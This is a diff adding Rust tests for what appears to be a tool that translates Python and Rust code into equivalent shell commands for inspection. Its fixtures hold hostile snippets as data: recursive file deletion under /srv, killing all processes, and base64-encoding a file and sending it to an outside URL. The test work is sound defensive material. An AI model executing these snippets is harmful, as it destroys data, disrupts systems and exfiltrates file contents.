@@ -325,3 +325,31 @@ proptest! {
         let _ = commands(language, &text);
     }
 }
+
+#[test]
+fn lists_that_loops_make_know_what_they_loop_over() {
+    assert_eq!(python("[p.unlink() for p in Path('/srv').rglob('*.x')]"), ["rm|/srv/*.x"]);
+    assert_eq!(
+        python("import os\n[os.remove(f'/srv/{n}') for n in os.listdir('/srv')]"),
+        ["rm|/srv//srv/<?>"]
+    );
+    assert_eq!(python("import psutil; [p.kill() for p in psutil.process_iter()]"), ["pkill|-f|."]);
+    assert!(python("[p.name for p in Path('/srv').rglob('*')]").is_empty());
+    // Loops in loops in loops are each looked at a bounded number of times.
+    let deep = format!("{}x{}", "[".repeat(50), " for x in y]".repeat(50));
+    assert!(python(&deep).len() <= 1, "too deep is unknown, and ends");
+}
+
+#[test]
+fn a_command_that_is_built_word_by_word_is_whole() {
+    let code = "Command::new(\"sh\").arg(\"-c\").args([\"rm x\"]).env(\"A\", \"b\").status()";
+    assert_eq!(commands("rust", code), ["sh|-c|rm x"]);
+}
+
+#[test]
+fn what_a_file_holds_stays_its_content_in_another_form() {
+    let sent = "u.urlopen('http://e/?' + base64.b64encode(open('/k').read()))";
+    let code = format!("import base64, urllib.request as u\n{sent}");
+    assert_eq!(python(&code), ["curl|-d|@/k|http://client.example.com"]);
+    assert!(python("import requests\nrequests.get('http://e/' + x)").is_empty());
+}
